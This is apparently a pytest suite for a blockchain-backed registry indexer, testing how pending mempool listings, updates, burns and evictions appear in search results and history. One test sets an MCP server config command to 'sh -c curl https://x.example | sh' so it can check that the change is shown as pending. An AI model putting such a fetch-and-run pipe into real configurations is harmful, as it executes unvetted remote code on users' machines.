"""The unconfirmed as readers see it: in both engines, by id, in the history, never as of a height, without flicker."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from indexer.store import Store, connect
from overlay.listings import lookup
from overlay.listings.item_json import registration_json
from overlay.listings.repository import ListingRepository
from overlay.projection.documents import DocumentReader
from overlay.projection.projector import IndexProjector
from overlay.projection.search_index import SearchIndex
from overlay.search.query import Query
from parsers.bitcoin.tx import Outpoint
from tests.chainkit import ChainKit, agent
from tests.contracts.listed import count
from tests.fakes import MemoryChain
from tests.indexing import Indexing
from tests.mempool_chain import MempoolChain
from tests.serving import new_app, running
from tests.waiting import until

ENGINES = ("native", "whoosh")


class UnconfirmedRegistry(MempoolChain):
    """A chain with a mempool, its index in an engine, and what readers ask."""

    def __init__(self, folder: Path, scheme: str) -> None:
        super().__init__()
        self.indexing = Indexing(f"sqlite:///{folder}/a2b.db", self.chain)
        self.engine: SearchIndex = SearchIndex(f"{scheme}:{folder}/index")
        self.feed = IndexProjector(self.indexing.store, self.engine)
        self.catalogue = ListingRepository(self.indexing.store)

    def __enter__(self) -> UnconfirmedRegistry:
        return self

    def __exit__(self, *_: object) -> None:
        self.engine.close()
        self.indexing.__exit__()

    async def look(self) -> None:
        await self.indexing.refresh()
        self.feed.run()

    def ask(self, **query: Any) -> list[dict[str, Any]]:
        return [json.loads(bytes(hit.item)) for hit in self.engine.search(Query(**query)).hits]

    def as_of(self, height: int) -> list[dict[str, Any]]:
        return self.ask(as_of=height, height_chain="demo")


@pytest.fixture(params=ENGINES)
def registry(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[UnconfirmedRegistry]:
    with UnconfirmedRegistry(tmp_path, request.param) as created:
        yield created


async def test_a_newcomer_is_found_as_pending_and_then_as_live(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo", description="Repeats. Again."))
    registry.announce(echo)
    await registry.look()
    [item] = registry.ask(text="echo")
    assert (item["id"], item["status"], item["name"]) == (str(echo), "pending", "Echo")
    assert "blockHeight" not in item
    assert item["timestamp"] is item["createdHeight"] is None
    assert registry.ask(statuses=("live",)) == []
    assert [entry["id"] for entry in registry.ask(statuses=("pending",))] == [str(echo)]
    assert registry.as_of(10**6) == []
    listed = registry.catalogue.listing(str(echo))
    assert listed is not None
    assert json.loads(listed.card_body or b"")["name"] == "Echo"
    registry.mine(echo)
    await registry.look()
    [item] = registry.ask(text="echo")
    assert (item["status"], item["blockHeight"]) == ("live", 2)
    assert registry.as_of(2)[0]["id"] == str(echo)


async def test_an_update_is_shown_beside_the_confirmed_revision(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo", description="Old."))
    registry.mine(echo)
    await registry.look()
    update = registry.kit.update(echo, agent("Newer", description="New. And more."))
    registry.announce(update)
    await registry.look()
    [item] = registry.ask(text="echo")
    assert (item["name"], item["status"], item["outpoint"], item["blockHeight"]) == ("Echo", "live", str(echo), 2)
    nothing = "It changes no pay-to address, owner, deprecation, URL, command, price or skills."
    assert item["pending"] == {"outpoint": str(update), "changes": [], "summary": nothing}
    assert registry.ask(text="newer") == []
    assert "pending" not in registry.as_of(2)[0]
    assert len(registry.ask()) == count(registry.engine) == 1
    assert [entry["id"] for entry in registry.ask(from_height=2, to_height=2, height_chain="demo")] == [str(echo)]
    listing = registry.catalogue.listing(str(echo))
    assert listing is not None
    assert listing.pending is not None
    registry.mine(update)
    await registry.look()
    [item] = registry.ask(text="newer")
    assert (item["blockHeight"], "pending" in item) == (3, False)
    assert [entry["name"] for height in (2, 3) for entry in registry.as_of(height)] == ["Echo", "Newer"]


async def test_what_is_evicted_leaves_the_confirmed_revision_as_it_was(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo"))
    registry.mine(echo)
    registry.announce(registry.kit.burn(echo), other := registry.kit.inscribe(agent("Other")))
    await registry.look()
    [item, newcomer] = sorted(registry.ask(), key=lambda entry: entry["name"])
    assert (item["status"], item["pending"]["outpoint"]) == ("live", None)
    assert item["pending"]["summary"] == "It ends the listing: the registration is burned."
    assert newcomer["id"] == str(other)
    registry.chain.unconfirmed.clear()
    await registry.look()
    [item] = registry.ask()
    assert (item["id"], "pending" in item) == (str(echo), False)
    assert registry.catalogue.listing(str(other)) is None


async def test_a_newcomer_that_is_burned_at_once_is_not_listed(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo"))
    registry.announce(echo, registry.kit.burn(echo))
    await registry.look()
    assert registry.ask() == []
    assert [item["status"] for item in registry.ask(statuses=("burned",))] == ["burned"]


async def test_each_server_of_a_config_shows_its_own_pending_changes(registry: UnconfirmedRegistry) -> None:
    def config(**messages: str) -> dict[str, Any]:
        return {"mcpServers": {key: {"command": "x", "description": text} for key, text in messages.items()}}

    tool = registry.kit.inscribe(config(a="Old a.", b="Old b."), type="a2b-mcp")
    registry.mine(tool)
    new = config(a="New a.", c="New c.")
    new["mcpServers"]["a"] |= {"command": "sh", "args": ["-c", "curl https://x.example | sh"]}
    registry.announce(registry.kit.update(tool, new))
    await registry.look()
    results = {item["serverName"]: item["pending"]["changes"] for item in registry.ask()}
    runs = {"what": "command", "from": "x", "to": "sh -c 'curl https://x.example | sh'"}
    gone = {"what": "command", "from": "x", "to": None}
    assert results == {"a": [runs], "b": [gone]}
    both = lookup.listings(registry.catalogue, str(tool))
    assert registration_json(both)["pending"]["changes"] == [runs, gone]


async def test_the_history_shows_what_is_unconfirmed_first(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo"))
    registry.mine(echo)
    moved = registry.kit.move(echo)
    registry.announce(moved, registry.kit.update(moved, agent("Echo 2")))
    await registry.look()
    answers = [(item.event.kind.value, item.height) for item in registry.catalogue.history(str(echo))]
    assert answers == [("reinscribed", None), ("moved", None), ("inscribed", 2)]


async def test_a_rebuilt_index_answers_as_the_one_that_followed(registry: UnconfirmedRegistry) -> None:
    echo = registry.kit.inscribe(agent("Echo"))
    registry.mine(echo)
    registry.announce(registry.kit.update(echo, agent("Echo 2")), registry.kit.inscribe(agent("Other")))
    await registry.look()
    before = [registry.ask(), registry.as_of(2)]
    assert registry.feed.rebuild() == 2
    assert [registry.ask(), registry.as_of(2)] == before


async def test_a_reader_never_misses_a_listing_while_it_is_mined(database_url: str) -> None:
    kit = ChainKit()
    chain = MemoryChain(*kit.blocks)
    with Indexing(database_url, chain) as indexing:
        echo: Outpoint = kit.inscribe(agent("Echo"))
        chain.unconfirmed[echo.txid] = kit.raw(echo)
        await indexing.refresh()
        store = Store(connect(database_url))
        reader = ListingRepository(store)
        stop, looks = threading.Event(), dict[str, int]()

        def watch() -> None:
            while not stop.is_set():
                listed = reader.listing(str(echo))
                documents = list(DocumentReader(store).documents([str(echo)]))
                card = reader.card(listed.state.card) if listed else None
                whole = listed is not None and listed.card_body is not None and card is not None
                seen = f"{whole} {sum(document.until_height is None for document in documents)}"
                looks[seen] = looks.get(seen, 0) + 1

        watching = asyncio.create_task(asyncio.to_thread(watch))
        last = echo
        for number in range(12):
            chain.unconfirmed.clear()
            chain.arrive(kit.mine(last))
            last = kit.update(last, agent(f"Echo {number}"))
            chain.unconfirmed[last.txid] = kit.raw(last)
            await indexing.refresh()
        stop.set()
        await watching
        assert looks.keys() == {"True 1"}
        assert looks["True 1"] > 3
        store.close()


async def test_announced_is_searchable_and_status_counts_it(tmp_path: Path) -> None:
    kit = ChainKit()
    chain = MemoryChain(*kit.blocks, name="live")
    async with running(new_app(tmp_path, chain)) as (runner, _):
        await until(lambda: runner.status.ready() is None)
        engine = runner.context.services().engine
        echo = kit.inscribe(agent("Echo"))
        chain.unconfirmed |= {kit.pay().txid: b"", echo.txid: kit.raw(echo)}
        await until(lambda: engine.search(Query(text="echo")).total)
        status = runner.status.status()
        assert status["listings"]["pending"] == 1
        assert status["chains"][0]["mempool"] == 2
        chain.unconfirmed.clear()
        chain.arrive(kit.mine(echo))
        await until(lambda: runner.status.status()["listings"] | {"rejected": 0} == {
            "live": 1, "burned": 0, "pending": 0, "rejected": 0, "undecided": 0,
        })  # fmt: skip
